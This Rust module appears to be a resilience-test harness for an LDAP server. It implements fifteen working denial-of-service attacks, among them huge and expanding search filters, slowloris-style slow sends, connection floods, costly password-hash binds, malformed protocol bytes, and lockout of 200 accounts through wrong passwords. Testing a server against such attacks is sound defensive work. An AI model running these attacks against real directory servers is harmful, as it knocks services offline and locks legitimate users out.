//! What attackers do, a function for each: it goes on until its process is killed.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::thread::sleep;
use std::time::Duration;

use anyhow::{Context, Result, bail, ensure};
use clap::builder::PossibleValuesParser;
use rustix::net::{AddressFamily, SocketType, bind, connect, socket, sockopt};
use sapwood_ldap::controls::Controls;
use sapwood_ldap::extended::START_TLS;
use sapwood_ldap::filter_text;
use sapwood_ldap::list::{AttributesBuf, ChangeKind, ChangesBuf};
use sapwood_ldap::message::{
    AddRequest, Authentication, BindRequest, ExtendedRequest, Frame, Message, ModifyRequest,
    Request, ResponseMessage, Scope, SearchRequest, frame,
};
use sapwood_ldap::result::ResultCode;

use super::PASSWORD;
use crate::SUFFIX;
use crate::server::ADMIN_PASSWORD;

/// The group with many members.
pub(super) const GROUP: &str = "cn=large";
/// Users whom a policy locks out.
pub(super) const VICTIMS: u32 = 200;
/// The lowest priority.
const NICE: i32 = 19;
/// Before what the server has closed is tried again.
const AGAIN: Duration = Duration::from_millis(100);

/// A way to harm a server.
pub(super) struct Attack {
    pub(super) name: &'static str,
    run: fn(&Target) -> Result<()>,
}

/// All that are known.
pub(super) const ATTACKS: &[Attack] = &[
    attack("strings", strings),
    attack("substrings", substrings),
    attack("silent-tls", silent_tls),
    attack("slow-anonymous", slow_anonymous),
    attack("slow-bound", slow_bound),
    attack("idle", idle),
    attack("binds", binds),
    attack("hashes", hashes),
    attack("group", group),
    attack("unread", unread),
    attack("churn", churn),
    attack("malformed", malformed),
    attack("abandon", abandon),
    attack("conditions", conditions),
    attack("locks", locks),
];

const fn attack(name: &'static str, run: fn(&Target) -> Result<()>) -> Attack {
    Attack { name, run }
}

pub(super) fn names() -> PossibleValuesParser {
    PossibleValuesParser::new(ATTACKS.iter().map(|attack| attack.name))
}

#[derive(Debug, clap::Args)]
pub(crate) struct Options {
    #[arg(value_parser = names())]
    name: String,
    #[command(flatten)]
    target: Target,
}

/// Who is attacked, and from where.
#[derive(Debug, clap::Args)]
struct Target {
    #[arg(long, value_parser = address)]
    ldap: SocketAddr,
    #[arg(long, value_parser = address)]
    ldaps: SocketAddr,
    #[arg(long)]
    from: Ipv4Addr,
    #[arg(long)]
    admin_dn: String,
}

/// The address of a URL that has one.
fn address(url: &str) -> Result<SocketAddr, String> {
    let (_, address) = url.split_once("://").ok_or("no URL")?;
    address.parse().map_err(|error| format!("{url}: {error}"))
}

/// Attacks until it is killed.
pub(crate) fn run(options: &Options) -> Result<()> {
    rustix::process::nice(NICE)?;
    let attack = ATTACKS.iter().find(|attack| attack.name == options.name);
    let attack = attack.context("no such attack")?;
    (attack.run)(&options.target)?;
    bail!("the attack has ended")
}

/// One connection.
struct Peer {
    stream: TcpStream,
    received: Vec<u8>,
}

impl Target {
    fn open(&self, server: SocketAddr) -> io::Result<TcpStream> {
        let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
        // Closed connections keep no port, or an attack would end when all are used up, and the honest client with it.
        sockopt::set_socket_linger(&socket, Some(Duration::ZERO))?;
        bind(&socket, &SocketAddr::from((self.from, 0)))?;
        connect(&socket, &server)?;
        Ok(TcpStream::from(socket))
    }

    fn connect(&self) -> io::Result<Peer> {
        Ok(Peer {
            stream: self.open(self.ldap)?,
            received: Vec::new(),
        })
    }

    fn bound(&self, dn: &str, password: &str) -> Result<Peer> {
        let mut peer = self.connect()?;
        peer.send(&bind_request(1, dn, password.as_bytes()))?;
        let code = peer.result()?;
        ensure!(code == ResultCode::Success, "{dn}: bind: {code:?}");
        Ok(peer)
    }

    fn mallory(&self) -> Result<Peer> {
        self.bound(&format!("cn=mallory,{SUFFIX}"), PASSWORD)
    }
}

impl Peer {
    fn send(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.stream.write_all(bytes)
    }

    /// The code of the next result; entries are passed over.
    fn result(&mut self) -> Result<ResultCode> {
        loop {
            while let Frame::Complete(length) = frame(&self.received, usize::MAX)? {
                let result = ResponseMessage::decode(&self.received[..length])
                    .ok()
                    .and_then(|message| Some((message.id, message.op.result()?.code)));
                self.received.drain(..length);
                match result {
                    Some((0, code)) => bail!("disconnected: {code:?}"),
                    Some((_, code)) => return Ok(code),
                    None => {}
                }
            }
            let mut piece = [0; 64 << 10];
            let count = self.stream.read(&mut piece)?;
            ensure!(count > 0, "the server has closed");
            self.received.extend_from_slice(&piece[..count]);
        }
    }
}

/// Does it again and again; what a server that defends itself does to one try is no reason to stop.
fn again(mut attempt: impl FnMut() -> Result<()>) -> Result<()> {
    loop {
        if attempt().is_err() {
            sleep(AGAIN);
        }
    }
}

/// The same with connections, so many at a time, each in a thread of its own.
fn in_threads(count: usize, attempt: impl Fn() -> Result<()> + Sync) -> Result<()> {
    std::thread::scope(|scope| {
        for _ in 0..count {
            scope.spawn(|| again(&attempt));
        }
    });
    Ok(())
}

fn message(id: u32, op: Request<'_>) -> Vec<u8> {
    let mut bytes = Vec::new();
    Message {
        id,
        op,
        controls: Controls::EMPTY,
    }
    .encode(&mut bytes);
    bytes
}

fn bind_request(id: u32, name: &str, password: &[u8]) -> Vec<u8> {
    let authentication = Authentication::Simple(password);
    message(
        id,
        Request::Bind(BindRequest {
            version: 3,
            name,
            authentication,
        }),
    )
}

fn search_request(id: u32, base: &str, scope: Scope, filter: &str) -> Result<Vec<u8>> {
    let filter = filter_text::parse(filter).map_err(|error| anyhow::anyhow!("{error:?}"))?;
    let request = SearchRequest::new(base, scope, filter.as_filter());
    Ok(message(id, Request::Search(request)))
}

fn start_tls() -> Vec<u8> {
    let name = START_TLS;
    message(1, Request::Extended(ExtendedRequest { name, value: None }))
}

/// A disjunction of as many parts as fit into a request of so many bytes.
fn disjunction(bytes: usize, part: impl Fn(usize) -> String) -> String {
    let mut filter = "(|".to_owned();
    let mut number = 0;
    while filter.len() < bytes {
        filter.push_str(&part(number));
        number += 1;
    }
    filter.push(')');
    filter
}

/// Values that are 18 times as long when they are prepared to be compared: four anonymous requests at a time.
fn strings(target: &Target) -> Result<()> {
    let value = "\u{FDFA}".repeat(8000);
    let filter = disjunction(230_000, |_| format!("(cn={value})"));
    let requests: Vec<u8> = (1..=4)
        .map(|id| search_request(id, "", Scope::Base, &filter))
        .collect::<Result<Vec<_>>>()?
        .concat();
    in_threads(2, || {
        let mut peer = target.connect()?;
        loop {
            peer.send(&requests)?;
            for _ in 0..4 {
                peer.result()?;
            }
        }
    })
}

/// Filters of thousands of substrings, each to be looked for in all entries.
fn substrings(target: &Target) -> Result<()> {
    let filter = disjunction(250_000, |number| format!("(description=*{number}*x*y*)"));
    let requests: Vec<u8> = (1..=4)
        .map(|id| search_request(id, SUFFIX, Scope::Subtree, &filter))
        .collect::<Result<Vec<_>>>()?
        .concat();
    in_threads(2, || {
        let mut peer = target.mallory()?;
        loop {
            peer.send(&requests)?;
            for _ in 0..4 {
                peer.result()?;
            }
        }
    })
}

/// Connections that begin TLS and go no further.
fn silent_tls(target: &Target) -> Result<()> {
    in_threads(200, || {
        let mut with_tls = target.open(target.ldaps)?;
        let mut peer = target.connect()?;
        peer.send(&start_tls())?;
        peer.result()?;
        // Both end when the server closes them.
        let _ = peer.stream.read(&mut [0]);
        let _ = with_tls.read(&mut [0]);
        Ok(())
    })
}

/// Sends a request at 1 kB a second.
fn send_slowly(peer: &mut Peer, request: &[u8], at_once: usize) -> Result<()> {
    peer.send(&request[..at_once])?;
    for piece in request[at_once..].chunks(100) {
        peer.send(piece)?;
        sleep(Duration::from_millis(100));
    }
    Ok(())
}

fn slow_anonymous(target: &Target) -> Result<()> {
    let filter = disjunction(190_000, |number| format!("(cn=name{number})"));
    let request = search_request(1, "", Scope::Base, &filter)?;
    in_threads(40, || {
        let mut peer = target.connect()?;
        send_slowly(&mut peer, &request, 20_000)
    })
}

/// Four requests of 3.9 MB of a user, of which 1 kB comes each second.
fn slow_bound(target: &Target) -> Result<()> {
    let description = "x".repeat(3_900_000);
    let mut attributes = AttributesBuf::default();
    attributes.push(b"description", [description.as_bytes()]);
    let request = message(
        2,
        Request::Add(AddRequest {
            dn: SUFFIX,
            attributes: attributes.view(),
        }),
    );
    in_threads(4, || {
        let mut peer = target.mallory()?;
        send_slowly(&mut peer, &request, 100_000)
    })
}

/// A thousand anonymous connections that do nothing.
fn idle(target: &Target) -> Result<()> {
    in_threads(1000, || {
        let mut peer = target.connect()?;
        peer.send(&search_request(1, "", Scope::Base, "(objectClass=*)")?)?;
        peer.result()?;
        peer.result()?;
        Ok(())
    })
}

/// The name of a user whom a policy locks out.
pub(super) fn victim(number: u32) -> String {
    format!("victim{number:03}")
}

/// Binds that fail, 400 under way at once: with wrong names, and with wrong passwords.
fn binds(target: &Target) -> Result<()> {
    let request = |id: u32| match id % 2 {
        0 => bind_request(id, &format!("cn=nobody{id},{SUFFIX}"), b"wrong"),
        // Nobody else's: mallory has other attacks to make.
        _ => bind_request(id, &format!("cn=target,{SUFFIX}"), b"wrong"),
    };
    let requests: Vec<u8> = (1..=20).flat_map(request).collect();
    in_threads(20, || {
        let mut peer = target.connect()?;
        loop {
            peer.send(&requests)?;
            for _ in 0..20 {
                peer.result()?;
            }
        }
    })
}

/// A user sets as many and as costly password values as may be stored, if any, and then binds with a wrong password.
fn hashes(target: &Target) -> Result<()> {
    let dn = format!("cn=hashes,{SUFFIX}");
    // As OpenLDAP writes them: an iteration count, 16 bytes of salt, and 64 of the hash, in its base64.
    let value = |number: usize, iterations: usize| {
        let salt = format!("{number:021}A");
        format!("{{PBKDF2-SHA512}}{iterations}${salt}${}", "A".repeat(86))
    };
    let counts = [20_000, 1_000, 100, 32, 16, 7, 4, 2, 1];
    let iterations = [10_000_000, 1_000_000, 300_000, 100_000, 10_000];
    let mut peer = target.bound(&dn, PASSWORD)?;
    for (count, iterations) in counts
        .iter()
        .flat_map(|count| iterations.map(|iterations| (*count, iterations)))
    {
        let values: Vec<String> = (0..count).map(|n| value(n, iterations)).collect();
        let mut changes = ChangesBuf::default();
        let kind = ChangeKind::Replace;
        // It keeps its own password, so that it can bind again when all attacks run at once.
        let values = values.iter().map(String::as_str).chain([PASSWORD]);
        changes.push(kind, b"userPassword", values.map(str::as_bytes));
        let changes = changes.view();
        peer.send(&message(
            2,
            Request::Modify(ModifyRequest { dn: &dn, changes }),
        ))?;
        if peer.result()? == ResultCode::Success {
            eprintln!("hashes: {count} values of {iterations} iterations were stored");
            break;
        }
    }
    let requests: Vec<u8> = (1..=10)
        .flat_map(|id| bind_request(id, &dn, b"wrong"))
        .collect();
    in_threads(8, || {
        let mut peer = target.connect()?;
        loop {
            peer.send(&requests)?;
            for _ in 0..10 {
                peer.result()?;
            }
        }
    })
}

/// Members are added to a large group, one after the other.
fn group(target: &Target) -> Result<()> {
    let dn = format!("{GROUP},{SUFFIX}");
    let mut number = 0;
    again(|| {
        let mut peer = target.bound(&target.admin_dn, ADMIN_PASSWORD)?;
        loop {
            number += 1;
            let member = format!("cn=new{number},{SUFFIX}");
            let mut changes = ChangesBuf::default();
            changes.push(ChangeKind::Add, b"member", [member.as_bytes()]);
            let changes = changes.view();
            peer.send(&message(
                2,
                Request::Modify(ModifyRequest { dn: &dn, changes }),
            ))?;
            peer.result()?;
        }
    })
}

/// Searches for everything whose answers nobody reads.
fn unread(target: &Target) -> Result<()> {
    let search = search_request(2, SUFFIX, Scope::Subtree, "(objectClass=*)")?;
    in_threads(32, || {
        let mut peer = target.mallory()?;
        // Until the server takes no more, or closes.
        loop {
            peer.send(&search)?;
        }
    })
}

/// Connections that come and go.
fn churn(target: &Target) -> Result<()> {
    in_threads(4, || {
        drop(target.open(target.ldap)?);
        drop(target.open(target.ldaps)?);
        Ok(())
    })
}

/// What is no LDAP, no TLS, or longer than allowed.
fn malformed(target: &Target) -> Result<()> {
    let garbage: [&[u8]; 4] = [
        b"GET / HTTP/1.1\r\n\r\n",
        b"\x30\x84\x7f\xff\xff\xff\x02\x01\x01",
        b"\x30\x0c\x02\x01\x01\x63\x07\x04\x00\x0a\x01\x09\x0a\x01",
        b"\x16\x03\x01\xff\xff\x01\x00\xff\xff",
    ];
    in_threads(4, || {
        for bytes in garbage {
            for server in [target.ldap, target.ldaps] {
                let mut stream = target.open(server)?;
                stream.write_all(bytes)?;
                // The server closes first.
                while stream.read(&mut [0; 4096])? > 0 {}
            }
        }
        Ok(())
    })
}

/// Searches of the whole tree that are abandoned at once.
fn abandon(target: &Target) -> Result<()> {
    let pair = |id: u32| {
        let search = search_request(id, SUFFIX, Scope::Subtree, "(description=*nothing*)")?;
        Ok([search, message(id + 1, Request::Abandon(id))].concat())
    };
    let requests = (0..500)
        .map(|number| pair(2 * number + 1))
        .collect::<Result<Vec<_>>>()?
        .concat();
    in_threads(4, || {
        let mut peer = target.mallory()?;
        loop {
            peer.send(&requests)?;
        }
    })
}

/// Searches of the whole tree by who sees of each entry what conditions of access rules say: four under way on each
/// connection, which find nearly nothing.
fn conditions(target: &Target) -> Result<()> {
    let requests: Vec<u8> = (1..=4)
        .map(|id| search_request(id, SUFFIX, Scope::Subtree, "(carLicense=*nothing*)"))
        .collect::<Result<Vec<_>>>()?
        .concat();
    in_threads(4, || {
        let mut peer = target.mallory()?;
        loop {
            peer.send(&requests)?;
            for _ in 0..4 {
                peer.result()?;
            }
        }
    })
}

/// Wrong passwords of one user after the other, so that a policy locks them all out: each lock is on the disk before it
/// is answered.
fn locks(target: &Target) -> Result<()> {
    let request = |number: u32| {
        bind_request(
            number + 1,
            &format!("cn={},{SUFFIX}", victim(number)),
            b"wrong",
        )
    };
    let requests: Vec<u8> = (0..VICTIMS).flat_map(request).collect();
    in_threads(4, || {
        let mut peer = target.connect()?;
        loop {
            peer.send(&requests)?;
            for _ in 0..VICTIMS {
                peer.result()?;
            }
        }
    })
}
